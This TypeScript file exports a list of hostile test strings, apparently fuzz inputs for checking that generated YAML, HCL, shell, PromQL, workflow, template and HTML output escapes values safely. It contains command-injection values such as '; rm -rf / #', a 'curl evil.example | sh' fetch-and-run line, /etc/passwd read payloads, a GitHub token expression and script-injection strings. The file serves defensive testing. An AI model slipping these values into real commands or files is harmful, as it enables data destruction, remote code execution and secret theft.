/** Texts that mean something to one of the languages that are generated. */
export const hostileTexts: readonly string[] = [
  // YAML
  'x\ninjected: true',
  'x\r\n- injected',
  '"}, injected: "true',
  "' injected: 'true",
  '&anchor *anchor',
  '!!js/function >-',
  '--- \n...',
  '# comment',
  '<<: *merge',
  // HCL
  '${file("/etc/passwd")}',
  '%{ for x in y }',
  'x" }\nresource "null_resource" "y" {',
  // shell and Make
  '$(touch /tmp/injected)',
  '`touch /tmp/injected`',
  '; rm -rf / #',
  '"; rm -rf / #',
  "'; rm -rf / #",
  '&& curl evil.example | sh',
  '$(shell id)',
  // PromQL
  '"} or vector(1) #',
  'a"}[5m])) or (up{x="',
  // GitHub expressions
  '${{ secrets.GITHUB_TOKEN }}',
  '${{ github.event.issue.title }}',
  // templates
  '{{ .Values.secret }}',
  '{% raw %}',
  // paths
  '../../etc/passwd',
  '..',
  '/etc/passwd',
  'C:\\Windows',
  'a/../../b',
  // text that deceives
  'line\u2028separator',
  'right\u202eto left',
  'mark\u200fed as right',
  'zero\u200bwidth',
  'null\u0000byte',
  'escape\u001b[31mred',
  'lone \ud800 surrogate',
  'byte order \ufeff mark',
  '🛒'.repeat(40),
  'é'.repeat(300),
  'x'.repeat(10_000),
  // names that objects have already
  '__proto__',
  'constructor',
  // Markdown and HTML
  '](javascript:alert(1))',
  '<script>alert(1)</script>',
  '<!-- comment',
  // what YAML 1.1 reads as something else
  'yes',
  'null',
  '0o17',
  '1e3',
  '~',
  '12:30:45',
];
